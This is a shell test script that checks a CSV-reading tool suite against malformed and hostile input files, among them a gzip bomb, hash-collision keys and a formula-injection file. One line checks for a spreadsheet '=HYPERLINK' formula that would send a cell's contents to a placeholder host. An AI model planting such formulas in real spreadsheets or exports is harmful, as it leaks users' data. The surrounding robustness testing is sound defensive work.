#!/bin/sh
# Files made to break readers of CSV: each must be read exactly, or refused with its place and without a byte of a result.
# One line of TAP a file. The files are shared data (TILL_SHARED); each collection is skipped where it is absent.
PATH=${TILL_BIN:-build/bin}:$PATH
PROGRAMS=${TILL_BUILD:-build}/tests/support/programs
SHARED=${TILL_SHARED:-../shared}
WORK=$(mktemp -d) || exit 1
trap 'rm -rf "$WORK"' EXIT
number=0
why=

# verdict NAME: one TAP line; $why says what is wrong.
verdict() {
    number=$((number + 1))
    if [ -z "$why" ]; then
        echo "ok $number - $1"
    else
        echo "not ok $number - $1"
        echo "# $why: $(head -n 1 "$WORK/err" | cut -c 1-300 | tr -cd '[:print:]')"
    fi
    why=
}
expect() { # what, wanted, got
    [ "$2" = "$3" ] || why="$why $1 is $3 instead of $2;"
}

# run COMMAND...: $status, and the files out and err. A test that a sanitizer ends has another exit code than a tool.
run() {
    "$@" > "$WORK/out" 2> "$WORK/err"
    status=$?
}
rfm() {
    run till-rfm --no-scores --count=rows --format=jsonl "$@"
}

# No control byte may reach a terminal or a log.
expect_clean_errors() {
    expect "the number of control bytes on standard error" 0 "$(LC_ALL=C tr -cd '\000-\011\013-\037\177' < "$WORK/err" | wc -c)"
}

# refused FILE LINE EXIT [OPTION]...: what the last run must look like when FILE is refused.
refused() {
    expect "the exit code" "$3" "$status"
    expect "the number of error lines" 1 "$(wc -l < "$WORK/err")"
    expect "the number of bytes on standard output" 0 "$(wc -c < "$WORK/out")"
    expect_clean_errors
    case $(cat "$WORK/err") in
    "till-rfm: $1:${2:+$2:}"*) ;;
    *) why="$why the place $1:$2 is not named;" ;;
    esac
}
# reject FILE LINE EXIT [OPTION]...
reject() {
    file=$1 line=$2 code=$3
    shift 3
    rfm -o "$WORK/result" "$@" "$file"
    expect "the exit code with -o" "$code" "$status"
    [ -z "$(find "$WORK" -name '*result*' -o -name '.till*')" ] || why="$why a file of -o is left;"
    rfm "$@" "$file"
    refused "$file" "$line" "$code"
}

# Sum of the money in $WORK/out in 1/10,000, which a double holds exactly.
money() {
    sed 's/.*"monetary":\(-\{0,1\}[0-9.]*\).*/\1/' "$WORK/out" | awk '{ s += int($1 * 10000 + ($1 < 0 ? -0.5 : 0.5)) } END { printf "%.4f", s / 10000 }'
}
# accept ROWS SUM CUSTOMERS [OPTION]... FILE
accept() {
    rows=$1 sum=$2 customers=$3
    shift 3
    rfm "$@"
    expect "the exit code" 0 "$status"
    expect_clean_errors
    summary=$(tail -n 1 "$WORK/err" | sed 's/; [0-9.]* s$//')
    expect "the summary" "till-rfm: $rows rows read = $rows used + 0 filtered + 0 rejected; $customers customers" "$summary"
    expect "the number of customers" "$customers" "$(wc -l < "$WORK/out")"
    expect "the number of different customers" "$customers" "$(sort -u "$WORK/out" | wc -l)"
    expect "the sum" "$(printf %.4f "$sum")" "$(money)"
}

# What the manifest leaves open, as till(7) decides it.
decide() { # path, name, rows, sum, customers, line
    case $2 in
    pol_bare_quote.csv) # RFC 4180 has no such field, and a guess could swallow rows
        reject "$1" "$6" 3 ;;
    pol_blank_lines.csv) # skipped
        accept "$3" "$4" "$5" "$1" ;;
    pol_comment_line.csv | pol_sep_line.csv) # taken for the header, and refused with a hint at --skip
        reject "$1" "$6" 3
        grep -q -e '--skip=1' "$WORK/err" || why="$why no hint at --skip;"
        accept 3 35.75 2 --skip=1 "$1" ;;
    pol_cr_only.csv) # refused, with the command that converts it
        reject "$1" "$6" 3
        tr '\r' '\n' < "$1" > "$WORK/converted"
        accept "$3" "$4" "$5" "$WORK/converted" ;;
    pol_invalid_utf8.csv) # never replaced, so two customers cannot become one
        reject "$1" "$6" 3 ;;
    pol_latin1.csv | pol_gbk.csv) # refused with a hint at --encoding, and read with it
        reject "$1" "$6" 3
        grep -q -e '--encoding' "$WORK/err" || why="$why no hint at --encoding;"
        case $2 in *gbk*) encoding=GBK ;; *) encoding=ISO-8859-1 ;; esac
        accept "$3" "$4" "$5" --encoding=$encoding "$1" ;;
    sec_formula.csv) # data go out as they came in
        accept "$3" "$4" "$5" "$1"
        jq -r .customer "$WORK/out" > "$WORK/keys"
        run "$PROGRAMS/csv_to_json" "$1"
        jq -r '.[].customer_id' "$WORK/out" | LC_ALL=C sort | cmp -s - "$WORK/keys" || why="$why keys have changed;"
        run till-rfm -q --no-scores "$1"
        grep -q '^"=HYPERLINK(""http://x/?""&A1)",' "$WORK/out" || why="$why the CSV is written otherwise;" ;;
    sec_xpath_key.csv) # data, never names of files
        accept "$3" "$4" "$5" "$1" ;;
    *)
        why="no decision is written down" ;;
    esac
}

# One line of the manifest. Its fields are separated by "|" here, since the shell would merge tabs.
hold() { # directory, file, verdict, rows, sum, customers, line
    case $3/$2 in
    accept/*) accept "$4" "$5" "$6" "$1/$2" ;;
    reject/*.gz)
        code=4
        [ "$2" != sec_gz_bomb_256m.csv.gz ] || code=3 # a field that is too long
        reject "$1/$2" "$7" $code ;;
    reject/*) reject "$1/$2" "$7" 3 ;;
    policy/*) decide "$1/$2" "$2" "$4" "$5" "$6" "$7" ;;
    *) why="the manifest says $3" ;;
    esac
    verdict "torture/$2: $3"
}

torture() {
    directory=$SHARED/torture
    tail -n +2 "$directory/manifest.tsv" | tr '\t' '|' > "$WORK/manifest"
    while IFS='|' read -r name _ asked rows sum customers line _; do
        hold "$directory" "$name" "$asked" "$rows" "$sum" "$customers" "$line"
    done < "$WORK/manifest"

    run till-value --value=amount "$directory/bad_dup_header.csv"
    expect "the exit code" 3 "$status"
    grep -q 'amount.*2' "$WORK/err" || why="$why the double column is not named;"
    verdict "a column named twice cannot be used"

    run "$PROGRAMS/peak" "$WORK/peak" till-rfm "$directory/sec_gz_bomb_256m.csv.gz"
    expect "the exit code" 3 "$status"
    read -r kilobytes seconds < "$WORK/peak"
    [ -n "$TILL_SANITIZER" ] || [ "$kilobytes" -lt 100000 ] || why="$why $kilobytes kB of memory;"
    verdict "the gzip bomb stays below 100 MB"
    echo "# $kilobytes kB, $seconds s"

    # Printed, not asserted: a clock is no test. Keys that collide in x31 tables, and as many random ones.
    awk 'NR == 1 { print; srand(1); next } { key = ""; for (i = 0; i < 24; i++) key = key sprintf("%c", 65 + int(26 * rand()))
        sub(/^[^,]*/, key); print }' "$directory/sec_hash_flood_x31.csv" > "$WORK/random.csv"
    run "$PROGRAMS/peak" "$WORK/peak" till-rfm "$directory/sec_hash_flood_x31.csv"
    read -r _ flood < "$WORK/peak"
    run "$PROGRAMS/peak" "$WORK/peak" till-rfm "$WORK/random.csv"
    read -r _ seconds < "$WORK/peak"
    echo "# 4096 colliding keys: $flood s, random keys: $seconds s"
}

# same JSON CSV [OPTION]...: the file reads as the JSON beside it says.
same() {
    json=$1
    shift
    run "$PROGRAMS/csv_to_json" "$@"
    expect "the exit code" 0 "$status"
    jq -cS . "$json" > "$WORK/wanted"
    jq -cS "${shape:-.}" "$WORK/out" 2>> "$WORK/err" | cmp -s - "$WORK/wanted" || why="$why the JSON differs;"
}
different() { # CSV, message: refused for a reason that we stand by
    run "$PROGRAMS/csv_to_json" "$1"
    expect "the exit code" 3 "$status"
    grep -q "$2" "$WORK/err" || why="$why the reason is another;"
}

spectrum() {
    for csv in "$WORK"/csv-spectrum/csvs/*.csv; do
        name=$(basename "$csv" .csv)
        title="csv-spectrum/$name"
        case $name in
        location_coordinates)
            # Bare quotes in a bare field (37 36'37.8"N): lenient parsers keep them, we do not guess. Its JSON has
            # another telephone number than its CSV, too.
            title="$title: refused, where the collection keeps quotes inside bare fields"
            different "$csv" 'quote inside an unquoted field' ;;
        *_crlf) # this copy of the collection has lost its carriage returns
            sed 's/$/\r/' "$csv" > "$WORK/crlf.csv"
            same "$WORK/csv-spectrum/json/$name.json" "$WORK/crlf.csv" ;;
        *) same "$WORK/csv-spectrum/json/$name.json" "$csv" ;;
        esac
        verdict "$title"
    done
}

# Files called header- and bad-header- have the header foo,bar,baz, the others none. Rows without one are objects of 1, 2, ...
test_data() {
    for csv in "$WORK"/csv-test-data/csv/*.csv; do
        name=$(basename "$csv" .csv)
        title="csv-test-data/$name"
        case $name in
        all-empty)
            # Two blank lines: the collection sees two rows of one empty field. Here the number of columns is settled by
            # the first line that is not blank, so this input is empty, and an empty input is an error.
            title="$title: refused, where the collection sees rows in blank lines"
            run "$PROGRAMS/csv_to_json" -n "$csv"
            expect "the exit code" 3 "$status" ;;
        bad-header-*)
            run "$PROGRAMS/csv_to_json" "$csv" foo bar baz
            expect "the exit code" 3 "$status" ;;
        bad-*)
            run "$PROGRAMS/csv_to_json" -n "$csv"
            expect "the exit code" 3 "$status" ;;
        header-*)
            same "$WORK/csv-test-data/json/$name.json" "$csv" foo bar baz ;;
        *)
            shape='[.[] | [.[]]]'
            same "$WORK/csv-test-data/json/$name.json" -n "$csv"
            shape= ;;
        esac
        verdict "$title"
    done
}

# Whatever a file holds: a result or one line of error, and the same by other threads and by portable code.
any_file() {
    run till-check -q -j1 "$1"
    expect_clean_errors
    case $status in
    0) ;;
    3 | 4)
        expect "the number of error lines" 1 "$(wc -l < "$WORK/err")"
        expect "the number of bytes on standard output" 0 "$(wc -c < "$WORK/out")" ;;
    *) why="$why exit code $status;" ;;
    esac
    cat "$WORK/out" "$WORK/err" > "$WORK/first"
    run till-check -q -j3 "$1"
    cat "$WORK/out" "$WORK/err" | cmp -s - "$WORK/first" || why="$why three threads say otherwise;"
    run env TILL_NO_SIMD=1 till-check -q -j1 "$1"
    cat "$WORK/out" "$WORK/err" | cmp -s - "$WORK/first" || why="$why portable code says otherwise;"
}
any_files() {
    count=0
    find "$WORK/$1" -type f | LC_ALL=C sort > "$WORK/files"
    while IFS= read -r file; do
        any_file "$file"
        count=$((count + 1))
        [ -z "$why" ] || break
    done < "$WORK/files"
    [ -z "$why" ] && file=
    verdict "$1: $count files are read or refused cleanly${file:+: $(basename "$file")}"
}

skip() {
    number=$((number + 1))
    echo "ok $number - $1 # SKIP no shared data (set TILL_SHARED)"
}
if [ -e "$SHARED/torture/manifest.tsv" ]; then torture; else skip torture; fi
for name in csv-spectrum csv-test-data csvkit-examples frictionless zsv libcsv-tests; do
    archive=$SHARED/data/csv-torture/$name.tar.gz
    if [ ! -e "$archive" ]; then
        skip "$name"
        continue
    fi
    tar xzf "$archive" -C "$WORK"
    case $name in
    csv-spectrum) spectrum ;;
    csv-test-data) test_data ;;
    *) any_files "$name" ;;
    esac
done
echo "1..$number"
